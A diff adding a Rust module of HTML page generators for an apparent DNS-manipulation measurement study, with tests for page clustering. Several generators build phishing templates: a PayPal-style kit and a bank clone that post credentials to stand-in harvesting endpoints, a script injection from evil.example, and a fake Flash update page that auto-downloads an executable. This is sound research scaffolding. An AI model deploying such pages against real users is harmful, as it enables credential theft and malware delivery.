@@ -1,0 +1,544 @@
+//! Deterministic HTML page generators.
+//!
+//! Every page family observed by the study — from legitimate category
+//! sites through censorship landing pages to PayPal phishing kits — has a
+//! generator here. Pages are deterministic functions of their parameters
+//! plus a seed-driven noise component, so that (a) experiments reproduce
+//! bit-for-bit and (b) the clustering stage faces realistic intra-family
+//! variation (dynamic content, rotating links) rather than byte-identical
+//! templates it could trivially collapse.
+
+use rand::rngs::SmallRng;
+use rand::{Rng, SeedableRng};
+
+/// Context for rendering one page.
+#[derive(Debug, Clone)]
+pub struct PageCtx {
+    /// The domain the client believes it is visiting.
+    pub domain: String,
+    /// Deterministic noise seed (vary per host to get intra-family noise).
+    pub seed: u64,
+}
+
+impl PageCtx {
+    /// A context for rendering `domain` with noise seed `seed`.
+    pub fn new(domain: &str, seed: u64) -> Self {
+        PageCtx {
+            domain: domain.to_string(),
+            seed,
+        }
+    }
+
+    fn rng(&self) -> SmallRng {
+        SmallRng::seed_from_u64(self.seed ^ 0x9e3779b97f4a7c15)
+    }
+}
+
+/// Site categories for legitimate content — mirrors the paper's domain
+/// taxonomy (Section 3.2).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum SiteCategory {
+    /// Advertisement networks.
+    Ads,
+    /// Adult content portals.
+    Adult,
+    /// Alexa Top sites (news/search/social).
+    Alexa,
+    /// Antivirus vendors and their update servers.
+    Antivirus,
+    /// Banking and payment sites.
+    Banking,
+    /// Dating sites.
+    Dating,
+    /// File-sharing / torrent indexes.
+    Filesharing,
+    /// Online betting.
+    Gambling,
+    /// Hosts of domains on malware blacklists.
+    Malware,
+    /// User-tracking / fingerprinting services.
+    Tracking,
+    /// Everything else in the catalog.
+    Misc,
+    /// The measurement team's own domain.
+    GroundTruth,
+}
+
+impl SiteCategory {
+    fn theme(self) -> (&'static str, &'static str) {
+        match self {
+            SiteCategory::Ads => ("Ad Network Console", "campaign"),
+            SiteCategory::Adult => ("Premium Video Portal", "video"),
+            SiteCategory::Alexa => ("Front Page", "story"),
+            SiteCategory::Antivirus => ("Security Updates", "signature"),
+            SiteCategory::Banking => ("Online Banking", "account"),
+            SiteCategory::Dating => ("Find a Match", "profile"),
+            SiteCategory::Filesharing => ("Torrent Index", "magnet"),
+            SiteCategory::Gambling => ("Live Betting Odds", "market"),
+            SiteCategory::Malware => ("Under Construction", "binary"),
+            SiteCategory::Tracking => ("Device Analytics", "beacon"),
+            SiteCategory::Misc => ("Information Hub", "article"),
+            SiteCategory::GroundTruth => ("Measurement Ground Truth", "probe"),
+        }
+    }
+}
+
+fn noise_token(rng: &mut SmallRng) -> String {
+    const ALPHA: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
+    (0..8)
+        .map(|_| ALPHA[rng.gen_range(0..ALPHA.len())] as char)
+        .collect()
+}
+
+/// The legitimate representation of a category site, with mild dynamic
+/// variation (item counts, rotating tokens) per seed.
+pub fn legit_site(category: SiteCategory, ctx: &PageCtx) -> String {
+    let mut rng = ctx.rng();
+    let (title, item) = category.theme();
+    let items = 6 + (rng.gen_range(0..4) as usize);
+    let mut body = String::new();
+    for i in 0..items {
+        let tok = noise_token(&mut rng);
+        body.push_str(&format!(
+            "<div class=\"{item}\"><h3>{item} {i}</h3><p>fresh {item} content {tok}</p>\
+             <a href=\"/{item}/{i}\">more</a></div>\n"
+        ));
+    }
+    let tracking = format!(
+        "<script>window._site='{}';(function(){{var q='{}';}})();</script>",
+        ctx.domain,
+        noise_token(&mut rng)
+    );
+    let form = if matches!(category, SiteCategory::Banking | SiteCategory::Dating) {
+        format!(
+            "<form method=\"post\" action=\"https://{}/login\">\
+             <input type=\"text\" name=\"user\"><input type=\"password\" name=\"pass\">\
+             <button>Sign in</button></form>",
+            ctx.domain
+        )
+    } else {
+        String::new()
+    };
+    format!(
+        "<html><head><title>{title} — {domain}</title>\
+         <link rel=\"stylesheet\" href=\"https://{domain}/static/site.css\">{tracking}</head>\
+         <body><header><img src=\"https://{domain}/static/logo.png\"><nav>\
+         <a href=\"/\">home</a><a href=\"/about\">about</a><a href=\"/contact\">contact</a></nav></header>\
+         <main>{form}{body}</main>\
+         <footer><a href=\"https://{domain}/terms\">terms</a></footer></body></html>",
+        title = title,
+        domain = ctx.domain,
+        tracking = tracking,
+        form = form,
+        body = body,
+    )
+}
+
+/// An HTTP error page (404/500/502 and friends), in one of a few server
+/// idioms so the HTTP-Error cluster is itself heterogeneous.
+pub fn http_error(code: u16, ctx: &PageCtx) -> String {
+    let mut rng = ctx.rng();
+    let reason = match code {
+        400 => "Bad Request",
+        403 => "Forbidden",
+        404 => "Not Found",
+        500 => "Internal Server Error",
+        502 => "Bad Gateway",
+        503 => "Service Unavailable",
+        _ => "Error",
+    };
+    match rng.gen_range(0..3) {
+        0 => format!(
+            "<html><head><title>{code} {reason}</title></head><body>\
+             <h1>{reason}</h1><p>The requested URL was not found on this server.</p>\
+             <hr><address>Apache Server at {} Port 80</address></body></html>",
+            ctx.domain
+        ),
+        1 => format!(
+            "<html><head><title>{code} {reason}</title></head><body bgcolor=\"white\">\
+             <center><h1>{code} {reason}</h1></center><hr><center>nginx</center></body></html>"
+        ),
+        _ => format!(
+            "<html><head><title>Error {code}</title></head><body><h2>HTTP Error {code}: {reason}</h2>\
+             <p>Please contact the administrator.</p></body></html>"
+        ),
+    }
+}
+
+/// Router manufacturers whose login pages dominate the Login category
+/// ("two large distributors of networking devices", Sec. 4.2).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum RouterVendor {
+    /// Stand-in for the first major CPE manufacturer.
+    ZyRouter,
+    /// Stand-in for the second major CPE manufacturer.
+    TpConnect,
+    /// Long tail of other vendors.
+    Generic,
+}
+
+/// A router / modem administration login page.
+pub fn router_login(vendor: RouterVendor, ctx: &PageCtx) -> String {
+    let (brand, model_prefix) = match vendor {
+        RouterVendor::ZyRouter => ("ZyRouter", "ZR"),
+        RouterVendor::TpConnect => ("TpConnect", "TC"),
+        RouterVendor::Generic => ("BroadbandGateway", "BG"),
+    };
+    let mut rng = ctx.rng();
+    let model = format!("{model_prefix}-{}", 600 + rng.gen_range(0..40) * 10);
+    format!(
+        "<html><head><title>{brand} {model} Web Configuration</title></head>\
+         <body><center><img src=\"/images/{brand_lower}_logo.gif\">\
+         <h2>{brand} {model} router login</h2>\
+         <form method=\"post\" action=\"/cgi-bin/login\">\
+         <table><tr><td>Username:</td><td><input type=\"text\" name=\"user\"></td></tr>\
+         <tr><td>Password:</td><td><input type=\"password\" name=\"pass\"></td></tr></table>\
+         <input type=\"submit\" value=\"Login\"></form></center></body></html>",
+        brand = brand,
+        brand_lower = brand.to_ascii_lowercase(),
+        model = model,
+    )
+}
+
+/// An IP-camera web login (the "specific brand of IP-based cameras",
+/// Sec. 4.1 — 574 self-IP responders).
+pub fn camera_login(ctx: &PageCtx) -> String {
+    let mut rng = ctx.rng();
+    format!(
+        "<html><head><title>NetCam Viewer</title>\
+         <script src=\"/js/activex_loader.js\"></script></head>\
+         <body><h3>NetCam live view login</h3><p>Network Camera {serial}</p>\
+         <form action=\"/login.cgi\"><input name=\"id\"><input name=\"pw\" type=\"password\">\
+         <input type=\"submit\"></form></body></html>",
+        serial = rng.gen_range(10_000..99_999)
+    )
+}
+
+/// A captive portal (ISP / hotel / educational network).
+pub fn captive_portal(operator: &str, ctx: &PageCtx) -> String {
+    format!(
+        "<html><head><title>{operator} — Network Login</title>\
+         <meta http-equiv=\"refresh\" content=\"30\"></head>\
+         <body><div class=\"portal\"><img src=\"/portal/{operator_lower}.png\">\
+         <h1>Welcome to the {operator} network</h1>\
+         <p>You must authenticate before accessing {domain}.</p>\
+         <form method=\"post\" action=\"/portal/auth\">\
+         <input name=\"voucher\"><button>Connect</button></form>\
+         <a href=\"/portal/terms\">Terms of use</a></div></body></html>",
+        operator = operator,
+        operator_lower = operator.to_ascii_lowercase().replace(' ', "-"),
+        domain = ctx.domain,
+    )
+}
+
+/// A web-mail login page.
+pub fn webmail_login(ctx: &PageCtx) -> String {
+    format!(
+        "<html><head><title>Webmail — Sign in</title></head><body>\
+         <div id=\"mailbox\"><h2>Webmail for {domain}</h2>\
+         <form method=\"post\" action=\"/mail/auth\"><input name=\"address\">\
+         <input name=\"password\" type=\"password\"><button>Open mailbox</button></form>\
+         </div></body></html>",
+        domain = ctx.domain
+    )
+}
+
+/// A domain-parking / reseller landing page with monetized links.
+pub fn parking_page(provider: &str, ctx: &PageCtx) -> String {
+    let mut rng = ctx.rng();
+    let mut related = String::new();
+    for _ in 0..8 {
+        let kw = noise_token(&mut rng);
+        related.push_str(&format!(
+            "<li><a href=\"http://search.{provider}.example/feed?kw={kw}\">Sponsored: {kw}</a></li>"
+        ));
+    }
+    format!(
+        "<html><head><title>{domain} — domain for sale</title>\
+         <script src=\"http://cdn.{provider}.example/park.js\"></script></head>\
+         <body><h1>{domain}</h1><p>This domain is parked free, courtesy of {provider}.</p>\
+         <p><b>Buy this domain.</b></p><ul class=\"related\">{related}</ul>\
+         <small>The domain owner maintains no relationship with advertisers.</small></body></html>",
+        domain = ctx.domain,
+        provider = provider,
+        related = related,
+    )
+}
+
+/// A search page. `mimicry` adds the ad banners underneath the search bar
+/// that Sec. 4.3 reports for fake Google front-ends.
+pub fn search_page(engine: &str, mimicry: bool, ctx: &PageCtx) -> String {
+    let ads = if mimicry {
+        "<div class=\"ads\"><a href=\"http://ads.inject.example/click?1\">\
+         <img src=\"http://ads.inject.example/banner1.gif\"></a>\
+         <a href=\"http://ads.inject.example/click?2\">\
+         <img src=\"http://ads.inject.example/banner2.gif\"></a></div>"
+    } else {
+        ""
+    };
+    format!(
+        "<html><head><title>{engine} Search</title></head><body>\
+         <center><img src=\"/logo_{engine_lower}.png\">\
+         <form action=\"/search\"><input type=\"text\" name=\"q\" size=\"55\">\
+         <input type=\"submit\" value=\"Search\"></form>{ads}</center>\
+         <p class=\"nx\">No results for {domain}. Did you mean something else?</p></body></html>",
+        engine = engine,
+        engine_lower = engine.to_ascii_lowercase(),
+        ads = ads,
+        domain = ctx.domain,
+    )
+}
+
+/// A censorship landing page for `country`. Carries the exact text
+/// fragment family the labeling step keys on (Sec. 4.2: "blocked by the
+/// order of [...] court/authority").
+pub fn censorship_landing(country: &str, authority: &str, ctx: &PageCtx) -> String {
+    format!(
+        "<html><head><title>Access Blocked</title></head>\
+         <body><div class=\"gov-banner\"><img src=\"/seal_{cc}.png\"></div>\
+         <h1>Access to this website has been blocked</h1>\
+         <p>Access to {domain} has been blocked by the order of the {authority} of {country}.</p>\
+         <p>Reference: statute {cc}-5651. If you believe this is in error, contact your provider.</p>\
+         </body></html>",
+        domain = ctx.domain,
+        country = country,
+        authority = authority,
+        cc = country.to_ascii_lowercase().replace(' ', "_"),
+    )
+}
+
+/// An (ISP / parental-control / AV) blocking page — distinct from state
+/// censorship per the paper's labeling.
+pub fn blocking_page(operator: &str, reason: &str, ctx: &PageCtx) -> String {
+    format!(
+        "<html><head><title>Website blocked — {operator}</title></head>\
+         <body><h1>Website blocked</h1>\
+         <p>{operator} has blocked {domain}: {reason}.</p>\
+         <p>This protection is part of your security subscription.</p>\
+         <a href=\"http://{operator_lower}.example/unblock?d={domain}\">Request review</a></body></html>",
+        operator = operator,
+        operator_lower = operator.to_ascii_lowercase().replace(' ', "-"),
+        domain = ctx.domain,
+        reason = reason,
+    )
+}
+
+/// The PayPal-style phishing kit of Sec. 4.3: the body consists of 46
+/// `<img>` tags reproducing the target site plus an HTML form POSTing
+/// credentials to a PHP endpoint.
+pub fn phishing_kit_images(target: &str, ctx: &PageCtx) -> String {
+    let mut rng = ctx.rng();
+    let host = noise_token(&mut rng);
+    let mut imgs = String::new();
+    for i in 0..46 {
+        imgs.push_str(&format!(
+            "<img src=\"/slices/{target}_{i:02}.png\" style=\"display:block\">"
+        ));
+    }
+    format!(
+        "<html><head><title>{target_title} — Log In</title></head><body style=\"margin:0\">\
+         {imgs}<form method=\"POST\" action=\"http://{host}.example/gate/collect.php\">\
+         <input name=\"email\" style=\"position:absolute;top:220px;left:340px\">\
+         <input name=\"password\" type=\"password\" style=\"position:absolute;top:260px;left:340px\">\
+         <input type=\"submit\" value=\"Log In\" style=\"position:absolute;top:300px;left:340px\">\
+         </form></body></html>",
+        target_title = capitalize(target),
+        imgs = imgs,
+        host = host,
+    )
+}
+
+/// A bank-phishing clone: structurally close to the legitimate banking
+/// template but with the credential form re-targeted.
+pub fn phishing_bank_clone(ctx: &PageCtx) -> String {
+    let legit = legit_site(SiteCategory::Banking, ctx);
+    legit.replace(
+        &format!("https://{}/login", ctx.domain),
+        "http://203.0.113.66/cgi/harvest.php",
+    )
+}
+
+/// Inject an ad into a legitimate page (Sec. 4.3, "inject ad banners
+/// directly into the HTML content").
+pub fn inject_ad(legit_html: &str, ad_host: &str) -> String {
+    let banner = format!(
+        "<div class=\"sponsor\"><a href=\"http://{ad_host}/c?x=1\">\
+         <img src=\"http://{ad_host}/b.gif\" width=\"728\" height=\"90\"></a></div>"
+    );
+    match legit_html.find("<main>") {
+        Some(i) => {
+            let mut out = String::with_capacity(legit_html.len() + banner.len());
+            out.push_str(&legit_html[..i + 6]);
+            out.push_str(&banner);
+            out.push_str(&legit_html[i + 6..]);
+            out
+        }
+        None => format!("{banner}{legit_html}"),
+    }
+}
+
+/// Inject suspicious JavaScript into a legitimate page (the other two ad
+/// IPs of Sec. 4.3 "serve suspicious JavaScript code").
+pub fn inject_script(legit_html: &str, script_host: &str) -> String {
+    let tag = format!("<script src=\"http://{script_host}/loader.js\"></script>");
+    match legit_html.rfind("</body>") {
+        Some(i) => {
+            let mut out = String::with_capacity(legit_html.len() + tag.len());
+            out.push_str(&legit_html[..i]);
+            out.push_str(&tag);
+            out.push_str(&legit_html[i..]);
+            out
+        }
+        None => format!("{legit_html}{tag}"),
+    }
+}
+
+/// Replace ad images with empty placeholders (the 7 ad-*blocking* IPs).
+pub fn blank_ads(legit_html: &str) -> String {
+    // Any image under an ads path becomes a transparent placeholder.
+    let mut out = legit_html.to_string();
+    for marker in ["ads.", "/ad/", "banner"] {
+        // Replace src values containing the marker with an empty pixel.
+        while let Some(start) = out.find(&format!("src=\"http://{marker}")) {
+            let value_start = start + 5;
+            let Some(rel_end) = out[value_start..].find('"') else { break };
+            out.replace_range(value_start..value_start + rel_end, "/blank.gif");
+        }
+    }
+    out.replace("<img src=\"http://ads.inject.example/banner1.gif\">", "<img src=\"/blank.gif\">")
+}
+
+/// The fake Flash/Java update page of Sec. 4.3 whose download is a
+/// malware dropper.
+pub fn fake_update_page(product: &str, ctx: &PageCtx) -> String {
+    let mut rng = ctx.rng();
+    let version = format!("{}.{}.{}", rng.gen_range(11..17), rng.gen_range(0..9), rng.gen_range(100..900));
+    format!(
+        "<html><head><title>{product} Update Required</title>\
+         <script>setTimeout(function(){{document.getElementById('dl').click();}},3000);</script></head>\
+         <body><img src=\"/img/{product_lower}_logo.png\">\
+         <h1>Your {product} Player is out of date</h1>\
+         <p>Version {version} is required to view this content on {domain}.</p>\
+         <a id=\"dl\" href=\"/download/{product_lower}_update_setup.exe\">\
+         <button>Install update</button></a></body></html>",
+        product = product,
+        product_lower = product.to_ascii_lowercase(),
+        version = version,
+        domain = ctx.domain,
+    )
+}
+
+fn capitalize(s: &str) -> String {
+    let mut c = s.chars();
+    match c.next() {
+        Some(f) => f.to_uppercase().collect::<String>() + c.as_str(),
+        None => String::new(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::page::PageFeatures;
+    use crate::tagid::TagInterner;
+    use crate::distance::{page_distance, FeatureWeights};
+
+    fn ctx(domain: &str, seed: u64) -> PageCtx {
+        PageCtx::new(domain, seed)
+    }
+
+    #[test]
+    fn generators_are_deterministic() {
+        let a = legit_site(SiteCategory::Banking, &ctx("bank.example", 7));
+        let b = legit_site(SiteCategory::Banking, &ctx("bank.example", 7));
+        assert_eq!(a, b);
+        let c = legit_site(SiteCategory::Banking, &ctx("bank.example", 8));
+        assert_ne!(a, c, "different seeds must vary the page");
+    }
+
+    #[test]
+    fn same_family_closer_than_cross_family() {
+        let mut i = TagInterner::new();
+        let w = FeatureWeights::default();
+        let bank1 = PageFeatures::extract(&legit_site(SiteCategory::Banking, &ctx("bank.example", 1)), &mut i);
+        let bank2 = PageFeatures::extract(&legit_site(SiteCategory::Banking, &ctx("bank.example", 2)), &mut i);
+        let err = PageFeatures::extract(&http_error(404, &ctx("bank.example", 1)), &mut i);
+        let within = page_distance(&bank1, &bank2, &w);
+        let across = page_distance(&bank1, &err, &w);
+        assert!(within < across, "within={within} across={across}");
+        assert!(within < 0.3, "within-family distance too large: {within}");
+        assert!(across > 0.5, "cross-family distance too small: {across}");
+    }
+
+    #[test]
+    fn phishing_kit_has_46_images_and_post_form() {
+        let mut i = TagInterner::new();
+        let html = phishing_kit_images("paypal", &ctx("paypal.example", 3));
+        let f = PageFeatures::extract(&html, &mut i);
+        assert_eq!(f.count_of("img", &i), 46);
+        assert_eq!(f.count_of("form", &i), 1);
+        assert!(html.contains("collect.php"));
+        assert!(html.to_lowercase().contains("method=\"post\""));
+    }
+
+    #[test]
+    fn censorship_page_carries_legal_marker() {
+        let html = censorship_landing("Turkey", "5651 authority", &ctx("youporn.example", 1));
+        assert!(html.contains("blocked by the order of"));
+    }
+
+    #[test]
+    fn injection_preserves_most_structure() {
+        let mut i = TagInterner::new();
+        let w = FeatureWeights::default();
+        let base = legit_site(SiteCategory::Alexa, &ctx("news.example", 5));
+        let injected = inject_ad(&base, "ads.rogue.example");
+        let a = PageFeatures::extract(&base, &mut i);
+        let b = PageFeatures::extract(&injected, &mut i);
+        let d = page_distance(&a, &b, &w);
+        assert!(d > 0.0 && d < 0.2, "injected distance {d}");
+        assert!(injected.contains("ads.rogue.example"));
+    }
+
+    #[test]
+    fn script_injection_appends_before_body_close() {
+        let base = legit_site(SiteCategory::Alexa, &ctx("news.example", 5));
+        let out = inject_script(&base, "evil.example");
+        assert!(out.contains("evil.example/loader.js"));
+        let pos_script = out.rfind("loader.js").unwrap();
+        let pos_body = out.rfind("</body>").unwrap();
+        assert!(pos_script < pos_body);
+    }
+
+    #[test]
+    fn router_vendors_differ() {
+        let a = router_login(RouterVendor::ZyRouter, &ctx("192.168.1.1", 1));
+        let b = router_login(RouterVendor::TpConnect, &ctx("192.168.1.1", 1));
+        assert!(a.contains("ZyRouter"));
+        assert!(b.contains("TpConnect"));
+        assert_ne!(a, b);
+    }
+
+    #[test]
+    fn fake_update_page_offers_executable() {
+        let html = fake_update_page("Flash", &ctx("adobe.example", 9));
+        assert!(html.contains("update_setup.exe"));
+        assert!(html.contains("out of date"));
+    }
+
+    #[test]
+    fn error_pages_vary_by_idiom() {
+        let variants: std::collections::HashSet<String> = (0..12)
+            .map(|s| http_error(404, &ctx("x.example", s)))
+            .collect();
+        assert!(variants.len() >= 2, "want several server idioms");
+    }
+
+    #[test]
+    fn search_mimicry_embeds_ads() {
+        let real = search_page("Finder", false, &ctx("nx.example", 1));
+        let fake = search_page("Finder", true, &ctx("nx.example", 1));
+        assert!(!real.contains("ads.inject.example"));
+        assert!(fake.contains("ads.inject.example"));
+    }
+}
